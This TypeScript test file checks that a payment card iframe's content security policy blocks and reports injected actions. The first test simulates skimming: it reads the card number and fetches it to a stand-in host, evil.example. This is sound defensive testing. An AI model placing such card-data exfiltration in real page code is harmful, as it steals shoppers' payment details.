import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { cardFrame, typeCard } from './card-fields.ts';
import { merchantScene } from './merchant-scene.ts';

describe("what the frame's policy stops", () => {
  const scene = merchantScene();

  test('is reported to the page by its directive and its origin, without a digit of what was blocked', async (t) => {
    const page = await scene.open(t);
    await typeCard(page);
    await cardFrame(page)
      .locator('form')
      .evaluate(async (form) => {
        const { value } = form.querySelector('input') as HTMLInputElement;
        await fetch(`https://evil.example/${value}?card=${value}#${value}`).catch(() => {});
        const image = document.createElement('img');
        image.src = `data:image/png;base64,${value}`;
        form.append(image);
        try {
          form.setAttribute('onclick', 'void 0');
        } catch {
          // Strings do not become scripts here.
        }
      });
    await page.waitForFunction(() => window.events.filter(([name]) => name === 'violation').length >= 3);
    const reported = await page.evaluate(() => window.events.filter(([name]) => name === 'violation'));
    // Which is heard of first is the browser's affair.
    const byDirective = reported.map(([, violation]) => JSON.stringify(violation)).toSorted();
    assert.deepEqual(byDirective, [
      '{"directive":"connect-src","blocked":"https://evil.example"}',
      '{"directive":"img-src","blocked":"data"}',
      '{"directive":"require-trusted-types-for","blocked":"trusted-types-sink"}',
    ]);
  });

  test('is reported twenty times and no more', async (t) => {
    const page = await scene.open(t);
    await cardFrame(page)
      .locator('form')
      .evaluate(async () => {
        for (let count = 0; count < 30; count++)
          await fetch(`https://evil-${count}.example/`).catch(() => {});
      });
    await page.waitForFunction(() => JSON.stringify(window.events).includes('evil-19.example'));
    await cardFrame(page).locator('#name').press('Enter');
    await page.waitForFunction(() => window.events.some(([name]) => name === 'submit'));
    const reported = await page.evaluate(() => window.events.filter(([name]) => name === 'violation').length);
    assert.equal(reported, 20);
  });

  test('does not occur while a card is typed and paid with', async (t) => {
    const page = await scene.open(t);
    await typeCard(page);
    const { client_secret } = await scene.shop.session();
    const { status } = await page.evaluate((secret) => window.card.confirm(secret), client_secret);
    assert.equal(status, 'succeeded');
    const reported = await page.evaluate(() => window.events.filter(([name]) => name === 'violation'));
    assert.deepEqual(reported, []);
  });
});
